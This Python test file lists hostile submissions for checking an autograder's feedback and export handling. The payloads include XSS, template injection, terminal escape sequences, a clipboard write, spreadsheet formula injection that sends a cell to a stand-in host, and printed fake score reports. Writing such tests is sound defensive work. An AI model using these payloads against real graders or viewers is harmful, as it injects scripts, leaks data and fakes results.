"""Attacks on whoever reads the feedback, the terminal or the exported table."""

from tests.corpora.hostile.make import COUNT, attack

FAMILY = "feedback"
SCRIPT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(1)>"


def _attack(name, code="", **more):
    return attack(FAMILY, name, code, **more)


CASES = [
    _attack("a script printed", f"print('{SCRIPT}', '{IMAGE}')\n"),
    _attack("a script as HTML", f"from IPython.display import HTML, display\ndisplay(HTML('{SCRIPT}{IMAGE}'))\n"),
    _attack(
        "a script as JavaScript", "from IPython.display import Javascript, display\ndisplay(Javascript('alert(1)'))\n"
    ),
    _attack(
        "a picture that is a script",
        f"""
        from IPython.display import SVG, display
        display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}</svg>'))
        """,
    ),
    _attack(
        "a PNG that is none",
        f"""
        from IPython.display import display
        latex = "$\\\\href{{javascript:alert(1)}}{{x}}$"
        display({{"image/png": '"><script>alert(1)</script>', "text/html": '{IMAGE}', "text/latex": latex}},
                raw=True)
        """,
    ),
    _attack(
        "links and frames",
        """
        from IPython.display import HTML, IFrame, Markdown, display
        display(Markdown("[x](javascript:alert(1)) <iframe srcdoc='<script>alert(1)</script>'></iframe>"))
        display(HTML("<a href='javascript:alert(1)'>x</a><form action='https://example.org'><input name=p></form>"))
        display(IFrame("javascript:alert(1)", 100, 100))
        """,
    ),
    _attack(
        "styles that hide the points",
        """
        from IPython.display import HTML, display
        display(HTML("<style>* { display: none !important }</style><base href='https://example.org/'>"
                     "<meta http-equiv=refresh content='0;url=https://example.org/'><h1>100 of 100 points</h1>"))
        """,
    ),
    _attack("a script in an error", f"raise ValueError('{SCRIPT}{IMAGE}')\n"),
    _attack(
        "a script in an answer's error",
        count_parameters=f"def count_parameters(*args):\n    raise ValueError('{IMAGE}')\n",
    ),
    _attack("a script in the name of an error", f"raise type('{SCRIPT}', (Exception,), {{}})('x')\n"),
    _attack(
        "a script in a returned type",
        count_parameters=f"""
        def count_parameters(*args):
            return type("{SCRIPT}", (), {{}})()
        """,
    ),
    _attack(
        "a script in the code",
        f'"""\n</code></pre></textarea></title></style>{SCRIPT}{IMAGE}\n"""\n',
        count_parameters=COUNT,
        earns=4,
    ),
    _attack(
        "a script in an answer in words",
        why=f"""
        {SCRIPT}

        {IMAGE} [x](javascript:alert(1)) ![x](x "onerror=alert(1)") <svg onload=alert(1)>

        <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">here</a>

        $$\\href{{javascript:alert(1)}}{{x}}$$
        """,
    ),
    _attack("template code", why="{{ config.items() }} {% raw %} ${7*7} <%= 7*7 %> {{''.__class__.__mro__}}\n"),
    _attack(
        "escape sequences",
        r"""
        print("\x1b[2J\x1b[H100 of 100 points\x1b]0;owned\x07\x1b[8m")
        raise ValueError("\x1b[2J\x1b]52;c;ZXZpbA==\x07\x9b31m\r100 of 100")
        """,
    ),
    _attack(
        "escape sequences in an answer's error",
        count_parameters=r"""
        def count_parameters(*args):
            raise ValueError("\x1b[2J\x1b[1A\r\b\b\u202e100 of 100 points\u2028\u0000")
        """,
    ),
    _attack("a sentence that turns around", "print('\u202epoints 001 fo 001\u202c \u200b\u2066')\n"),
    _attack(
        "a formula for a spreadsheet",
        why='=HYPERLINK("http://example.org?"&A1,"click")\n',
        count_parameters="""
        def count_parameters(*args):
            raise ValueError("=cmd|' /C calc'!A0")
        """,
    ),
    _attack(
        "a false report printed",
        r"""
        print("lstm_step: 15 of 15 points\n  ✓ h   6/6\n</pre><h2>Total: 103 of 100</h2><pre>")
        """,
    ),
    _attack("half of a character", "print('\\ud800', chr(0xDFFF), chr(0), chr(0xFFFE))\nraise ValueError('\\udcff')\n"),
    _attack(
        "half of a character in an answer",
        count_parameters="def count_parameters(*args):\n    raise ValueError('\\ud800' * 50)\n",
    ),
    _attack("a character said a million times", "print('a' + '\u0301' * 1_000_000)\n"),
]
